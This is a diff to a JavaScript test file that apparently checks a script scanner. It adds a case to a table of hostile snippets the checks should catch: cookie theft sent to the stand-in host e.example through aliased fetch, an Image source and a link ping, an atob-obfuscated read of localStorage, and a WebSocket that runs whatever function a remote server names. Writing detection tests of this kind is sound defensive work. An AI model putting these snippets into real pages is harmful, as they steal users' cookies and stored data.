@@ -38,6 +38,10 @@ describe('the checks hold a script', () => {
       'that gives `fetch` another name',
       'const send = window.fetch.bind(window); send("https://e.example/", { body: document.cookie });',
     ],
+    [
+      'that calls what a server elsewhere names',
+      'const s = new WebSocket("wss://e.example"); s.onmessage = (e) => { const m = JSON.parse(e.data); window[m.f](...m.a); };',
+    ],
     ['that decodes the name of a property', 'const s = window[atob("bG9jYWxTdG9yYWdl")]; fetch("/a", { body: s.a });'],
     ['that sends in a property', 'const i = new Image(); i["src"] = "https://e.example/?" + document.cookie;'],
     ['that sends with the ping of a link', 'a.ping = "https://e.example/?" + document["coo" + "kie"]; a.click();'],
